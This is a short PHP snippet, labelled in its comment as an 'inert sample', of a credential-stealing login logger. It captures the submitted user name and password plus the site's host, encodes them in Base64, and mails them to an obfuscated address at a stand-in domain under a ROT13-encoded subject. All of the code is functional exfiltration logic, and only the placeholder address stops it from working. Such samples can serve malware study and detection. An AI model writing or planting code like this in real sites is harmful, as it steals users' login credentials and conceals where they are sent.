<?php
// inert sample: a login logger that encodes the posted password with the user name and mails it
// to an address kept Base64-encoded, the subject ROT13-encoded
$u = isset($_REQUEST['user_login']) ? $_REQUEST['user_login'] : '';
$k = base64_encode($u . '|' . $_REQUEST['user_pass'] . '|' . $_SERVER['HTTP_HOST']);
@mail(base64_decode('cmVwb3J0QGV4YW1wbGUubmV0'), str_rot13('ybtva'), $k);
